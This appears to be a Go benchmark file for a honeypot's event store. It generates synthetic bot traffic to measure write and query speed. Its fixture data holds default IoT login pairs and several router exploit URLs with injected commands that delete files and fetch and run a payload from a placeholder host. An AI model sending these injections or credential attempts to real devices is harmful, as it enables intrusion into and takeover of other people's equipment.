package store

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/minipot/minipot/internal/event"
)

// traffic generates what a minipot sees: connections to the six services,
// most from a few hundred busy bots and the rest from a long tail, each a
// connect, its logins or request, and a disconnect.
type traffic struct {
	rng     *rand.Rand
	ips     []string // ips[:hot] send most connections; nil: a new address each time
	hot     int
	pending []event.Event
	connID  int64
}

var (
	creds = [][2]string{{"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "888888"},
		{"root", "default"}, {"support", "support"}, {"user", "user"}, {"admin", "password"},
		{"root", "root"}, {"root", "12345"}, {"guest", "12345"}, {"root", "7ujMko0admin"}}
	urls = []string{"/", "/HNAP1/", "/.env", "/boaform/admin/formLogin", "/GponForm/diag_Form?images/",
		"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F198.51.100.3%2Ft+-O-%7Csh%60)",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.3/jaws;sh+/tmp/jaws",
		"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.3:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"}
	agents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
		"Hello, world", "python-requests/2.31.0", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1", ""}
	targets  = []string{"www.google.com:443", "api.ipify.org:80", "http://azenv.net/", "http://ip-api.com/json", "smtp.mail.ru:25"}
	services = []struct {
		key    string
		port   int
		weight int
	}{{"23tcp", 23, 50}, {"2323tcp", 2323, 10}, {"80tcp", 80, 20}, {"8080tcp", 8080, 10}, {"3128tcp", 3128, 5}, {"8123tcp", 8123, 5}}
)

// newTraffic draws from n addresses, the first 500 of them busy; n == 0
// gives every connection a new address (the worst case for the index).
func newTraffic(seed uint64, n int) *traffic {
	g := &traffic{rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), hot: min(500, n)}
	for range n {
		g.ips = append(g.ips, g.randIP())
	}
	return g
}

func (g *traffic) randIP() string {
	if g.rng.IntN(100) == 0 {
		return fmt.Sprintf("2001:db8:%x:%x::%x", g.rng.IntN(65536), g.rng.IntN(65536), g.rng.IntN(65536))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 1+g.rng.IntN(223), g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254))
}

func (g *traffic) next() event.Event {
	if len(g.pending) == 0 {
		g.connect()
	}
	e := g.pending[0]
	g.pending = g.pending[1:]
	e.Time = time.Now()
	return e
}

func (g *traffic) connect() {
	var ip string
	switch {
	case g.ips == nil:
		ip = g.randIP()
	case g.rng.IntN(100) < 60:
		ip = g.ips[g.rng.IntN(g.hot)]
	default:
		ip = g.ips[g.rng.IntN(len(g.ips))]
	}
	w := g.rng.IntN(100)
	svc := services[0]
	for _, s := range services {
		if w < s.weight {
			svc = s
			break
		}
		w -= s.weight
	}
	g.connID++
	c := event.Event{Service: svc.key, Port: svc.port, SrcIP: ip, SrcPort: 1024 + g.rng.IntN(64000), ConnID: g.connID}
	add := func(a event.Action, f func(*event.Event)) {
		e := c
		e.Action = a
		if f != nil {
			f(&e)
		}
		g.pending = append(g.pending, e)
	}
	add(event.Connect, nil)
	switch svc.key {
	case "23tcp", "2323tcp":
		for range 1 + g.rng.IntN(3) {
			cr := creds[g.rng.IntN(len(creds))]
			add(event.Login, func(e *event.Event) { e.Username, e.Password = cr[0], cr[1] })
		}
	case "80tcp":
		add(event.Request, func(e *event.Event) {
			e.Method, e.URL, e.Host = "GET", urls[g.rng.IntN(len(urls))], "192.0.2.1"
			e.UserAgent = agents[g.rng.IntN(len(agents))]
		})
	default:
		add(event.Request, func(e *event.Event) {
			e.Method, e.URL = "CONNECT", targets[g.rng.IntN(len(targets))]
			e.Host, e.UserAgent = e.URL, agents[g.rng.IntN(len(agents))]
		})
	}
	add(event.Disconnect, func(e *event.Event) {
		e.Duration = time.Duration(g.rng.IntN(30000)) * time.Millisecond
		e.BytesIn, e.BytesOut = int64(g.rng.IntN(2000)), int64(g.rng.IntN(500))
		e.Reason = []string{event.ReasonClosed, event.ReasonTimeout, event.ReasonLimit}[g.rng.IntN(3)]
	})
}

// BenchmarkWrite measures sustained throughput to a file on disk: events
// per second from the first Emit until the last is committed. The producer
// only waits when the queue is three quarters full, so nothing is dropped
// and the writer is the bottleneck. Run with a large fixed count, e.g.
//
//	go test ./internal/store -run '^$' -bench Write -benchtime 1000000x
func BenchmarkWrite(b *testing.B) {
	cases := []struct {
		name string
		ips  int // 0: every connection from a new address
		opt  Options
	}{
		{"realistic", 20000, Options{}},
		{"realistic-maxrows", 20000, Options{MaxRows: 250000}},
		// The default bound (store.max_size 16 MiB): at the bound every
		// batch also evicts.
		{"realistic-maxsize", 20000, Options{MaxSize: 16 << 20}},
		{"unique-ips", 0, Options{}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			// Pregenerated so the producer costs little of the two cores.
			gen := newTraffic(1, c.ips)
			evs := make([]event.Event, 1<<16)
			for i := range evs {
				evs[i] = gen.next()
			}
			s, err := Open(filepath.Join(b.TempDir(), "events.db"), c.opt)
			if err != nil {
				b.Fatal(err)
			}
			defer s.Close()
			cpu0, io0 := procUsage()
			b.ResetTimer()
			for i := range b.N {
				for len(s.queue) > cap(s.queue)*3/4 {
					time.Sleep(100 * time.Microsecond)
				}
				e := evs[i%len(evs)]
				e.Time = time.Now()
				s.Emit(&e)
			}
			if err := s.Flush(context.Background()); err != nil {
				b.Fatal(err)
			}
			b.StopTimer()
			cpu1, io1 := procUsage()
			if s.Dropped() != 0 {
				b.Errorf("%d events dropped", s.Dropped())
			}
			n := float64(s.Written())
			b.ReportMetric(n/b.Elapsed().Seconds(), "events/s")
			// The machine is shared: events per second of this process's
			// CPU time is the steadier figure. The writer is one goroutine,
			// so the two agree when it has a core to itself.
			b.ReportMetric(n/(cpu1-cpu0).Seconds(), "events/cpu-s")
			b.ReportMetric(float64(io1-io0)/n, "written-bytes/event")
			size, _ := s.Size()
			b.ReportMetric(float64(size)/float64(max(1, s.Written())), "bytes/event")
		})
	}
}

// procUsage returns the CPU time of this process and the bytes it has passed
// to write(2) (WAL, checkpoints; Linux only, else 0).
func procUsage() (time.Duration, int64) {
	var ru syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	cpu := time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
	var written int64
	if data, err := os.ReadFile("/proc/self/io"); err == nil {
		for l := range strings.Lines(string(data)) {
			if v, ok := strings.CutPrefix(strings.TrimSpace(l), "wchar: "); ok {
				written, _ = strconv.ParseInt(v, 10, 64)
			}
		}
	}
	return cpu, written
}

// BenchmarkEmit measures the cost of Emit to a connection's goroutine while
// the writer runs, with all cores emitting; what the writer cannot take is
// dropped (reported as dropped/op).
func BenchmarkEmit(b *testing.B) {
	gen := newTraffic(1, 20000)
	evs := make([]event.Event, 1<<12)
	for i := range evs {
		evs[i] = gen.next()
	}
	s, err := Open(filepath.Join(b.TempDir(), "events.db"), Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			s.Emit(&evs[i%len(evs)])
			i++
		}
	})
	b.StopTimer()
	b.ReportMetric(float64(s.Dropped())/float64(b.N), "dropped/op")
}

// BenchmarkQuery measures a page of Query on a table of a million
// realistic events, for each kind of filter. Filters without an index of
// their own (service, action) read the ts index backwards until a page of
// matches; a value that never occurs reads it all.
func BenchmarkQuery(b *testing.B) {
	const rows = 1000000
	gen := newTraffic(1, 20000)
	s, err := Open(filepath.Join(b.TempDir(), "events.db"), Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	start := time.Now().Add(-rows * time.Millisecond)
	var hot, rare string
	seen := map[string]int{}
	for i := range rows {
		for len(s.queue) > cap(s.queue)*3/4 {
			time.Sleep(100 * time.Microsecond)
		}
		e := gen.next()
		e.Time = start.Add(time.Duration(i) * time.Millisecond)
		seen[e.SrcIP]++
		s.Emit(&e)
	}
	if err := s.Flush(context.Background()); err != nil {
		b.Fatal(err)
	}
	for ip, n := range seen {
		if n > seen[hot] {
			hot = ip
		}
		if rare == "" || n < seen[rare] {
			rare = ip
		}
	}
	mid := start.Add(rows / 2 * time.Millisecond)
	cases := []struct {
		name string
		f    Filter
	}{
		{"newest", Filter{}},
		{"service-common", Filter{Service: "23tcp"}},
		{"service-5%", Filter{Service: "8123tcp"}},
		{"action-login", Filter{Action: event.Login}},
		{"action-absent", Filter{Action: event.Invalid}},
		{"srcip-busy", Filter{SrcIP: hot}},
		{"srcip-rare", Filter{SrcIP: rare}},
		{"hour-in-middle", Filter{Since: mid, Until: mid.Add(time.Hour)}},
		{"service-in-hour", Filter{Service: "8123tcp", Since: mid, Until: mid.Add(time.Hour)}},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			c.f.Limit = DefaultLimit
			for b.Loop() {
				if _, _, err := s.Query(context.Background(), c.f); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
